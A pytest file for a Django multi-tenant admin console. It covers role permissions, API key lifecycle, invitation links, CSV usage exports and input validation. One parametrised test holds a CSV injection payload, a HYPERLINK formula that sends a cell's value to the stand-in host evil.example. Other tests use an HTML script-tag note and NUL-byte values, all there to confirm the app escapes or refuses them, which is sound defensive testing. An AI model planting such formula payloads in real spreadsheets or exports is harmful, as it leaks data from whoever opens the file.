import io
import re
from datetime import UTC, datetime, timedelta

import pytest
from django.core.exceptions import ValidationError
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from config.access_log import QuietAccessLog
from console import joining
from serving import services as serving_services
from serving.models import ModelDeployment
from tenants import invitations, rollups, services
from tenants.models import ApiKey, Invitation, Membership, UsageRecord
from tests.usage_records import usage_record_add

pytestmark = pytest.mark.django_db


@pytest.fixture
def people(django_user_model, tenant, other_tenant):
    make = django_user_model.objects.create_user
    people = {
        "member": make("member", password="pw-member-123"),
        "admin_a": make("admin_a", password="pw-admin-123"),
        "owner_a": make("owner_a", password="pw-owner-123"),
        "staff": make("staffer", password="pw-staff-123", is_staff=True, is_superuser=True),
        "nobody": make("nobody", password="pw-nobody-123"),
    }
    services.membership_set(tenant=tenant, user=people["member"], role="member", actor=None)
    services.membership_set(tenant=tenant, user=people["admin_a"], role="admin", actor=None)
    services.membership_set(tenant=tenant, user=people["owner_a"], role="owner", actor=None)
    return people


def _usage(tenant, count=6):
    api_key, _ = services.api_key_create(tenant=tenant, name="prod")
    now = datetime.now(UTC)
    for n in range(count):
        usage_record_add(
            request_id=f"{tenant.slug}-{n}",
            tenant=tenant,
            api_key=api_key,
            model="demo-chat" if n % 2 else "big-model",
            source=UsageRecord.Source.API,
            status="error" if n == 0 else "ok",
            started_at=now - timedelta(days=n % 3),
            finished_at=now - timedelta(days=n % 3),
            prompt_tokens=100,
            completion_tokens=50 + n,
            time_to_first_token_ms=30.0 * (n + 1),
            latency_ms=400.0 * (n + 1),
        )
    rollups.rollup_pending()
    return api_key


PAGES = ["console:dashboard", "console:keys", "console:members", "console:usage-csv"]


@pytest.mark.parametrize(
    ("who", "own", "other", "platform"),
    [
        ("member", 404, 404, 302),
        ("nobody", 404, 404, 302),
        ("admin_a", 200, 404, 302),
        ("owner_a", 200, 404, 302),
        ("staff", 200, 200, 200),
    ],
)
def test_permission_matrix(client, people, tenant, other_tenant, who, own, other, platform):
    client.force_login(people[who])
    for page in PAGES:
        assert client.get(reverse(page, args=[tenant.slug])).status_code == own
        assert client.get(reverse(page, args=[other_tenant.slug])).status_code == other
    assert client.get(reverse("console:platform")).status_code == platform


def test_members_get_no_console_and_anonymous_users_log_in(client, people):
    assert client.get(reverse("console:home")).status_code == 302
    client.force_login(people["member"])
    assert client.get(reverse("console:home")).status_code == 403
    client.force_login(people["admin_a"])
    assert client.get(reverse("console:home"))["Location"].endswith("/console/t/acme/")


def test_dashboard_shows_usage_charts_and_quota(client, people, tenant, other_tenant):
    _usage(tenant)
    _usage(other_tenant, count=2)
    client.force_login(people["admin_a"])

    page = client.get(reverse("console:dashboard", args=[tenant.slug])).content.decode()
    # tokens, requests, error and refusal rates, TTFT, TPOT and latency percentiles
    assert page.count("<svg") == 6
    assert "demo-chat" in page and "big-model" in page
    assert ">6<" in page  # requests in range: only acme's six
    assert "Requests / minute" in page and "60" in page  # default plan limit
    by_key = client.get(reverse("console:dashboard", args=[tenant.slug]), {"group": "key"})
    assert "prod" in by_key.content.decode()


def test_csv_export_matches_the_rollups(client, people, tenant):
    _usage(tenant)
    client.force_login(people["owner_a"])
    response = client.get(reverse("console:usage-csv", args=[tenant.slug]))
    lines = response.content.decode("utf-8-sig").strip().splitlines()
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response.content.startswith("\ufeff".encode())  # Excel then reads it as UTF-8
    assert lines[0].startswith("date,model,source,api_key,requests")
    assert sum(int(line.split(",")[4]) for line in lines[1:]) == 6
    assert sum(int(line.split(",")[6]) for line in lines[1:]) == sum(50 + n for n in range(6))


@pytest.mark.parametrize(
    "name", ['=HYPERLINK("https://evil.example/?"&A1,"Report")', "+1+2", "-3", "@SUM(A1)", "\t=1"]
)
def test_a_csv_cell_a_spreadsheet_would_run_as_a_formula_is_kept_text(client, people, tenant, name):
    """A key's name is the tenant's to choose: staff opening the tenant's export in a
    spreadsheet ran it as a formula (OWASP's CSV injection)."""
    import csv
    import io

    api_key = _usage(tenant)
    ApiKey.objects.filter(pk=api_key.pk).update(name=name)
    client.force_login(people["owner_a"])
    response = client.get(reverse("console:usage-csv", args=[tenant.slug]))
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))[1:]
    assert rows and {row[3] for row in rows} == {"'" + name}


def test_the_keys_page_costs_the_same_queries_for_3_keys_as_for_30(client, people, tenant):
    """Each row shows who created its key: one query per key before."""
    client.force_login(people["admin_a"])
    url = reverse("console:keys", args=[tenant.slug])

    def num_queries(num_keys: int) -> int:
        while ApiKey.objects.filter(tenant=tenant).count() < num_keys:
            services.api_key_create(tenant=tenant, name="k", created_by=people["admin_a"])
        with CaptureQueriesContext(connection) as queries:
            assert client.get(url).status_code == 200
        return len(queries.captured_queries)

    assert num_queries(3) == num_queries(30)


def test_keys_are_created_once_shown_and_revoked(client, people, tenant):
    client.force_login(people["admin_a"])
    url = reverse("console:keys", args=[tenant.slug])
    page = client.post(url, {"action": "create", "name": "ci", "expires_in_days": "30"})
    [raw_key] = re.findall(r"sk-[A-Za-z0-9]{48}", page.content.decode())
    api_key = services.api_key_authenticate(raw_key=raw_key)
    assert api_key.tenant == tenant and api_key.created_by == people["admin_a"]
    assert raw_key not in client.get(url).content.decode()

    client.post(url, {"action": "revoke", "key_id": api_key.pk})
    with pytest.raises(services.ApiKeyInvalid):
        services.api_key_authenticate(raw_key=raw_key)


def test_a_creation_sent_again_makes_no_second_key_and_no_cache_keeps_the_secret(
    client, people, tenant
):
    """The browser's reload sends the creation form again: it made a second key. The page
    that shows a secret is kept by no cache (the back button showed it again)."""
    client.force_login(people["admin_a"])
    url = reverse("console:keys", args=[tenant.slug])
    token = re.search(r'name="form_token" value="([^"]+)"', client.get(url).content.decode())[1]
    form = {"action": "create", "name": "ci", "form_token": token}

    created = client.post(url, form)
    again = client.post(url, form, follow=True)

    assert len(re.findall(r"sk-[A-Za-z0-9]{48}", created.content.decode())) == 1
    assert "no-store" in created["Cache-Control"]
    assert ApiKey.objects.filter(tenant=tenant, name="ci").count() == 1
    assert "created already" in again.content.decode()
    assert not re.findall(r"sk-[A-Za-z0-9]{48}", again.content.decode())


def test_an_expired_key_shows_as_expired_not_active(client, people, tenant):
    """The API refuses it; the keys page said "active", and the platform page counted it."""
    from console.selectors import tenant_rows

    expired, _ = services.api_key_create(tenant=tenant, name="old-ci")
    services.api_key_create(tenant=tenant, name="live-ci")
    ApiKey.objects.filter(pk=expired.pk).update(expires_at=datetime.now(UTC) - timedelta(days=1))
    client.force_login(people["owner_a"])

    page = client.get(reverse("console:keys", args=[tenant.slug])).content.decode()

    rows = dict(re.findall(r"<td>(\w+-ci)</td>.*?pill \w+\">(\w+)<", page, re.S))
    assert rows == {"old-ci": "expired", "live-ci": "active"}
    row = next(row for row in tenant_rows() if row.tenant == tenant)
    assert row.num_active_keys == 1


def test_keys_of_another_tenant_cannot_be_revoked(client, people, tenant, other_tenant):
    theirs, raw = services.api_key_create(tenant=other_tenant, name="theirs")
    client.force_login(people["admin_a"])
    response = client.post(
        reverse("console:keys", args=[tenant.slug]), {"action": "revoke", "key_id": theirs.pk}
    )
    assert response.status_code == 404
    assert services.api_key_authenticate(raw_key=raw) == theirs


def _invite(client, tenant, role="member", **extra) -> tuple[object, str]:
    """Make an invitation on the members page; the answer and the link it shows."""
    url = reverse("console:members", args=[tenant.slug])
    page = client.get(url).content.decode()
    token = re.search(r'name="form_token" value="([^"]+)"', page).group(1)
    data = {"action": "invite", "role": role, "expires_in_days": 7, "form_token": token, **extra}
    response = client.post(url, data)
    link = re.search(r'id="new-link">([^<]+)<', response.content.decode())
    return response, link.group(1) if link else ""


def _join(client, link: str, user, *, accept: bool = True):
    """``user`` opens ``link`` and, with ``accept``, joins from the page it shows."""
    client.force_login(user)
    client.get(link)
    page = client.get(reverse("console:join"))
    return _accept(client, page) if accept else page


def _accept(client, page):
    """The join page's button pressed."""
    shown = re.search(r'name="invitation_id" value="(\d+)"', page.content.decode())
    return client.post(reverse("console:join"), {"invitation_id": shown.group(1) if shown else ""})


def test_members_are_invited_by_a_link_they_accept(client, people, tenant):
    client.force_login(people["admin_a"])
    response, link = _invite(client, tenant)
    assert response.status_code == 200 and "no-store" in response["Cache-Control"]
    assert link.startswith("http://testserver/console/join/inv_")
    assert not Membership.objects.filter(user=people["nobody"], tenant=tenant).exists()
    page = client.get(reverse("console:members", args=[tenant.slug])).content.decode()
    assert "Open invitations" in page and link not in page  # shown once

    client.logout()
    to_sign_in = client.get(link, follow=True)  # the code stays in the session
    assert to_sign_in.redirect_chain[-1][0] == "/accounts/login/?next=/console/join/"
    shown = _join(client, link, people["nobody"], accept=False)
    assert "admin_a invites you to join <strong>Acme</strong> as <strong>member</strong>" in (
        shown.content.decode()
    )
    joined = _accept(client, shown)
    assert joined.status_code == 302 and joined["Location"] == reverse("chat:home")
    assert Membership.objects.get(user=people["nobody"], tenant=tenant).role == "member"
    again = _join(client, link, people["staff"], accept=False)
    assert (
        "used already" in again.content.decode() and "invitation_id" not in again.content.decode()
    )
    assert _accept(client, again).status_code == 400
    assert not Membership.objects.filter(user=people["staff"], tenant=tenant).exists()


def test_an_admin_invites_no_owner_and_touches_no_owner(client, people, tenant):
    client.force_login(people["admin_a"])
    response, link = _invite(client, tenant, role="owner")
    assert link == "" and not Invitation.objects.exists()
    owner = Membership.objects.get(user=people["owner_a"], tenant=tenant)
    client.post(
        reverse("console:members", args=[tenant.slug]),
        {"action": "remove", "membership_id": owner.pk},
    )
    assert Membership.objects.filter(pk=owner.pk).exists()  # admins cannot touch owners

    client.force_login(people["owner_a"])
    url = reverse("console:members", args=[tenant.slug])
    client.post(url, {"action": "role", "membership_id": owner.pk, "role": "admin"})
    assert Membership.objects.get(pk=owner.pk).role == "owner"  # the last owner stays
    # an owner who opens a member's invitation stays owner: a link changes no one's role
    client.force_login(people["admin_a"])
    _, link = _invite(client, tenant)
    refused = _join(client, link, people["owner_a"])
    assert "member of Acme already" in refused.content.decode()
    assert Membership.objects.get(pk=owner.pk).role == "owner"


def test_a_reload_makes_no_second_invitation_and_revoking_kills_the_link(client, people, tenant):
    client.force_login(people["owner_a"])
    url = reverse("console:members", args=[tenant.slug])
    page = client.get(url).content.decode()
    token = re.search(r'name="form_token" value="([^"]+)"', page).group(1)
    data = {"action": "invite", "role": "admin", "expires_in_days": 30, "form_token": token}
    first = client.post(url, data)
    link = re.search(r'id="new-link">([^<]+)<', first.content.decode()).group(1)
    again = client.post(url, data, follow=True)
    assert "made already" in again.content.decode()
    [invitation] = Invitation.objects.all()
    assert invitation.role == "admin"
    assert invitation.expires_at - invitation.created_at == timedelta(days=30)
    bad = client.post(url, {**data, "form_token": "fresh", "expires_in_days": 3650})
    assert bad.status_code == 400 and Invitation.objects.count() == 1

    client.post(url, {"action": "revoke_invitation", "invitation_id": invitation.pk})
    assert "Open invitations" not in client.get(url).content.decode()
    refused = _join(client, link, people["nobody"], accept=False)
    assert "revoked" in refused.content.decode()
    missing = client.post(url, {"action": "revoke_invitation", "invitation_id": 10**6})
    assert missing.status_code == 404


def test_the_join_page_without_a_link_or_with_a_wrong_one(client, people):
    client.force_login(people["nobody"])
    assert "open the invitation link" in client.get(reverse("console:join")).content.decode()
    for wrong in ("inv_nothing", "x" * 200, "%00"):
        page = client.get(f"/console/join/{wrong}/", follow=True)
        assert page.status_code == 200
        text = page.content.decode()
        assert "not an invitation" in text or "open the invitation link" in text
    assert client.post(reverse("console:join")).status_code == 400
    assert not Membership.objects.filter(user=people["nobody"]).exists()


BAD_RANGES = [
    {"end": "0001-01-01"},
    {"start": "0001-01-01", "end": "0001-01-02"},
    {"start": "9999-12-31"},
    {"end": "9999-12-31"},
    {"start": "garbage"},
    {"end": "2024-02-30"},
    {"start": "2024-01-01T00:00"},
    {"end": "+99999-01-01"},
]
RANGE_PAGES = ["console:dashboard", "console:usage-csv", "console:platform"]


@pytest.mark.parametrize("query", BAD_RANGES)
@pytest.mark.parametrize("page", RANGE_PAGES)
def test_out_of_range_or_garbage_dates_are_a_400(client, people, tenant, page, query):
    client.force_login(people["staff"])
    args = [] if page == "console:platform" else [tenant.slug]
    response = client.get(reverse(page, args=args), query)
    assert response.status_code == 400
    body = response.content.decode()
    assert "Enter a valid date" in body or "Pick a date from 2000-01-01" in body


@pytest.mark.parametrize("page", RANGE_PAGES)
def test_a_range_in_bounds_is_shown(client, people, tenant, page):
    _usage(tenant)
    client.force_login(people["staff"])
    args = [] if page == "console:platform" else [tenant.slug]
    today = datetime.now(UTC).date()
    query = {"start": (today - timedelta(days=400)).isoformat(), "end": today.isoformat()}
    response = client.get(reverse(page, args=args), query)
    assert response.status_code == 200
    if page == "console:usage-csv":  # a range too long is cut to its last 366 days
        assert f"-{today - timedelta(days=365)}-{today}.csv" in response["Content-Disposition"]


@pytest.mark.parametrize("days", ["99999999999", "0", "-1", "3651", "abc", "²", "1.5"])
def test_a_key_lifetime_out_of_bounds_redisplays_the_form(client, people, tenant, days):
    client.force_login(people["admin_a"])
    url = reverse("console:keys", args=[tenant.slug])
    response = client.post(url, {"action": "create", "name": "ci", "expires_in_days": days})
    assert response.status_code == 400
    assert 'msg error">Expires in days: ' in response.content.decode()
    assert not re.findall(r"sk-[A-Za-z0-9]{48}", response.content.decode())
    assert not ApiKey.objects.filter(tenant=tenant).exists()


def test_a_key_lives_at_most_ten_years(client, people, tenant):
    client.force_login(people["admin_a"])
    url = reverse("console:keys", args=[tenant.slug])
    response = client.post(url, {"action": "create", "name": "ci", "expires_in_days": "3650"})
    assert response.status_code == 200
    [api_key] = ApiKey.objects.filter(tenant=tenant)
    assert api_key.expires_at.date() == (datetime.now(UTC) + timedelta(days=3650)).date()


@pytest.mark.parametrize("value", ["abc", "²", "", "-1", str(10**30), "1" * 5000])
def test_malformed_object_ids_are_a_404(client, people, tenant, value):
    client.force_login(people["staff"])
    posts = [
        (reverse("console:keys", args=[tenant.slug]), {"action": "revoke", "key_id": value}),
        (
            reverse("console:members", args=[tenant.slug]),
            {"action": "remove", "membership_id": value},
        ),
        (reverse("console:deployment-action"), {"action": "enable", "deployment_id": value}),
    ]
    for url, data in posts:
        assert client.post(url, data).status_code == 404, (url, data)


def test_platform_console_lists_tenants_models_and_manages_deployments(client, people, tenant):
    _usage(tenant)
    ModelDeployment.objects.create(
        name="demo-chat",
        endpoints=["tcp://h:1"],
        health="ready",
        replicas={
            "tcp://h:1": {
                "num_requests_running": 3,
                "num_requests_waiting": 1,
                "kv_cache_usage": 0.42,
                "tokens_per_second": 123.4,
            }
        },
    )
    client.force_login(people["staff"])
    page = client.get(reverse("console:platform")).content.decode()
    assert "Acme" in page and "big-model" in page
    assert "3 · 1 · 42% · 123.4" in page

    assert 'http-equiv="refresh"' not in page
    ModelDeployment.objects.filter(name="demo-chat").update(
        replicas={"tcp://h:1": {"state": "loading", "state_detail": "loading /models/x"}}
    )
    page = client.get(reverse("console:platform")).content.decode()
    assert 'http-equiv="refresh"' in page and "loading /models/x" in page

    action = reverse("console:deployment-action")
    deployment = ModelDeployment.objects.get(name="demo-chat")
    client.post(action, {"action": "disable", "deployment_id": deployment.pk})
    assert not ModelDeployment.objects.get(pk=deployment.pk).is_enabled
    client.post(action, {"action": "register", "name": "new-model", "endpoints": "tcp://x:2"})
    assert ModelDeployment.objects.get(name="new-model").endpoints == ["tcp://x:2"]
    client.post(action, {"action": "register", "name": "bad", "endpoints": "http://x"})
    assert not ModelDeployment.objects.filter(name="bad").exists()

    client.force_login(people["owner_a"])
    assert (
        client.post(
            action, {"action": "register", "name": "x", "endpoints": "tcp://x:2"}
        ).status_code
        == 302
    )
    assert not ModelDeployment.objects.filter(name="x").exists()


def test_platform_console_shows_a_down_replica_and_a_restarting_engine(
    client, people, settings, tmp_path
):
    settings.VAR_DIR = tmp_path
    ModelDeployment.objects.create(
        name="demo-chat",
        endpoints=["tcp://h:1"],
        health="down",
        replicas={"tcp://h:1": {"error": "no answer"}},
    )
    client.force_login(people["staff"])
    page = client.get(reverse("console:platform")).content.decode()
    assert "Down" in page and "no answer" in page
    assert "Processes" not in page  # no supervisor here: nothing to show

    (tmp_path / "supervisor.json").write_text(
        '{"engine": {"running": false, "restarts": 2, "last_exit_code": -9, "pid": 7},'
        ' "daphne": {"running": true, "restarts": 0, "last_exit_code": null, "pid": 8}}'
    )
    page = client.get(reverse("console:platform")).content.decode()
    rows = re.findall(
        r"<tr><td>(\w+)</td><td><span class=\"pill \w+\">(\w+)</span></td>"
        r"<td>(\d+)</td><td>([^<]*)</td></tr>",
        page,
    )
    assert rows == [("engine", "restarting", "2", "-9"), ("daphne", "running", "0", "–")]
    assert 'http-equiv="refresh"' in page  # followed until it is back


def test_the_platform_page_shows_a_tenant_and_a_model_named_like_a_dict_method(client, people):
    tenant = services.tenant_create(slug="items", name="Items")
    api_key, _ = services.api_key_create(tenant=tenant, name="k")
    now = datetime.now(UTC)
    usage_record_add(
        request_id="named-items",
        tenant=tenant,
        api_key=api_key,
        model="items",
        source=UsageRecord.Source.API,
        status="ok",
        started_at=now,
        finished_at=now,
        prompt_tokens=3,
        completion_tokens=4,
    )
    client.force_login(people["staff"])

    response = client.get(reverse("console:platform"))

    assert response.status_code == 200
    page = response.content.decode()
    assert f'<a href="{reverse("console:dashboard", args=["items"])}">items</a>' in page
    assert "<td>items</td><td>1</td><td>3</td><td>4</td>" in page


def test_nul_characters_in_console_forms_are_refused_with_a_message(client, people, tenant):
    """Fields read from the POST without a form (which refuses NUL) reached the database,
    and PostgreSQL's text refuses NUL: the pages were 500s."""
    deployment = ModelDeployment.objects.create(name="demo-chat", endpoints=["tcp://h:1"])
    action = reverse("console:deployment-action")
    members = reverse("console:members", args=[tenant.slug])
    member = Membership.objects.get(user=people["member"], tenant=tenant)
    posts = [
        ("owner_a", members, {"action": "role", "membership_id": member.pk, "role": "admin\x00"}),
        ("staff", action, {"action": "register", "name": "m\x00", "endpoints": "tcp://x:1"}),
        ("staff", action, {"action": "register", "name": "m", "endpoints": "tcp://x:1\x00"}),
        (
            "staff",
            action,
            {
                "action": "load",
                "deployment_id": deployment.pk,
                "endpoint": "tcp://h:1",
                "model": "/models/x\x00",
            },
        ),
    ]
    for who, url, data in posts:
        client.force_login(people[who])
        response = client.post(url, data, follow=True)
        assert response.status_code == 200, (url, data)
        assert [m.level_tag for m in response.context["messages"]] == ["error"], (url, data)
    assert not ModelDeployment.objects.filter(name__startswith="m").exists()
    assert Membership.objects.filter(tenant=tenant).count() == 3
    with pytest.raises(ValidationError):  # a line break after it, too
        serving_services.deployment_register(name="m\n", endpoints=["tcp://x:1"])


def test_a_deactivated_tenant_is_staffs_alone_in_the_console(client, people, tenant):
    """Its managers kept making keys, changing members and downloading its batch files."""
    tenant.is_active = False
    tenant.save()
    for page in ("console:keys", "console:members", "console:batches"):
        url = reverse(page, args=[tenant.slug])
        client.force_login(people["owner_a"])
        assert client.get(url).status_code == 404
        client.force_login(people["staff"])
        assert client.get(url).status_code == 200


def test_join_takes_the_invitation_its_page_showed_not_a_link_opened_since(
    client, people, tenant, other_tenant
):
    """The session kept one link, the last opened: "Join Acme" as member on one tab joined
    the tenant of a link opened on another (or slipped in by a hostile page's redirect), in
    its role."""
    services.membership_set(tenant=other_tenant, user=people["owner_a"], role="owner", actor=None)
    client.force_login(people["owner_a"])
    _, acme_link = _invite(client, tenant)
    other, other_code = invitations.invitation_create(
        tenant=other_tenant, role="admin", actor=people["owner_a"]
    )
    client.force_login(people["nobody"])
    client.get(acme_link)
    acme_page = client.get(reverse("console:join"))
    assert "Join Acme" in acme_page.content.decode()
    client.get(reverse("console:join-link", args=[other_code]))  # another tab, or a trap
    refused = _accept(client, acme_page)
    assert refused.status_code == 400 and "Another invitation link" in refused.content.decode()
    assert not Membership.objects.filter(user=people["nobody"]).exists()
    client.get("/console/join/" + "inv_" + "x" * 300 + "/")  # no code, and no older one shown
    assert "not an invitation" in client.get(reverse("console:join")).content.decode()


def test_the_session_keeps_the_links_hash_for_an_hour_not_its_code(client, people, tenant):
    client.force_login(people["owner_a"])
    _, link = _invite(client, tenant)
    code = link.rstrip("/").rsplit("/", 1)[1]
    client.force_login(people["nobody"])
    client.get(link)
    stored = client.session[joining.SESSION_KEY]
    assert stored["hash"] == invitations.code_hash(code) and code not in str(dict(client.session))
    session = client.session
    session[joining.SESSION_KEY] = {**stored, "at": stored["at"] - joining.KEPT_SECONDS - 1}
    session.save()
    assert "open the invitation link" in client.get(reverse("console:join")).content.decode()


def test_the_access_log_leaves_an_invitations_code_out():
    stream = io.StringIO()
    details = {"client": ["203.0.113.9", 5555], "method": "GET", "status": 302, "size": 0}
    QuietAccessLog(stream)("http", "complete", {**details, "path": "/console/join/inv_SECRET/"})
    QuietAccessLog(stream)("http", "complete", {**details, "path": "/console/join/"})
    logged = stream.getvalue()
    assert "inv_SECRET" not in logged and '"GET /console/join/…"' in logged
    assert '"GET /console/join/"' in logged


def test_an_admin_is_offered_only_what_an_admin_may_do(client, people, tenant):
    client.force_login(people["owner_a"])
    _invite(client, tenant, role="owner", note="the new co-founder")
    client.force_login(people["admin_a"])
    _invite(client, tenant, note="Alice <script>")
    page = client.get(reverse("console:members", args=[tenant.slug])).content.decode()
    form = page[page.index("Invite someone") : page.index("Open invitations")]
    assert 'value="owner"' not in form and 'value="admin"' in form
    rows = page[page.index("Open invitations") :]
    owner_row = rows[rows.index("the new co-founder") : rows.index("Alice &lt;script&gt;")]
    assert "Revoke" not in owner_row  # an owner's invitation is an owner's to revoke
    assert "Revoke" in rows[rows.index("Alice &lt;script&gt;") :]


def test_an_invitation_whose_maker_lost_the_right_says_it_no_longer_works(client, people, tenant):
    client.force_login(people["admin_a"])
    _invite(client, tenant, note="for bob")
    services.membership_set(tenant=tenant, user=people["admin_a"], role="member", actor=None)
    client.force_login(people["owner_a"])
    page = client.get(reverse("console:members", args=[tenant.slug])).content.decode()
    assert "for bob" in page and "no longer works" in page
